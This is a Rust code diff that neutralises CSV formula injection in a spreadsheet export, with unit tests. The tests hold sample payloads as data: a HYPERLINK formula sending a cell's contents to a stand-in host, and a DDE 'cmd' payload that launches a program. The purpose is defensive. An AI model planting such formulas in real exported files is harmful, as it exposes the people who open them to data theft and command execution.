@@ -116,10 +116,11 @@ impl Sheet {
     fn row<I, S>(&mut self, cells: I) -> Result<(), AppError>
     where
         I: IntoIterator<Item = S>,
-        S: AsRef<[u8]>,
+        S: AsRef<str>,
     {
+        let cells: Vec<S> = cells.into_iter().collect();
         self.writer
-            .write_record(cells)
+            .write_record(cells.iter().map(|c| inert(c.as_ref()).into_owned()))
             .map_err(|e| AppError::State(format!("export: {e}")))
     }
 
@@ -136,6 +137,20 @@ impl Sheet {
         self.writer
             .into_inner()
             .map_err(|e| AppError::State(format!("export: {e}")))
+    }
+}
+
+/// The cell as a spreadsheet shows it without running it: one that starts as a formula would
+/// (`=`, `+`, `-`, `@`, a tab or a carriage return) goes behind an apostrophe, which a
+/// spreadsheet shows as text (OWASP's advice on CSV injection). Buyers type the names,
+/// organisations, cities and references exported here, and staff open the files; a number
+/// (`-12.50`, `-12,50`) is left a number.
+fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula && cell.replace(',', ".").parse::<Decimal>().is_err() {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
     }
 }
 
@@ -466,4 +481,34 @@ fn customers_sheet(sheet: &mut Sheet, bills: &[Bill]) -> Result<(), AppError> {
         ])?;
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::inert;
+
+    #[test]
+    fn a_cell_that_would_run_as_a_formula_is_shown_as_text() {
+        for formula in [
+            "=HYPERLINK(\"http://x.test/?\"&A1,\"Open\")",
+            "+33 cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(inert(formula), format!("'{formula}"));
+        }
+        for kept in [
+            "Ada",
+            "12.50",
+            "-12.50",
+            "-12,50",
+            "a=b",
+            "",
+            "ada+shop@example.org",
+        ] {
+            assert_eq!(inert(kept), kept);
+        }
+    }
 }
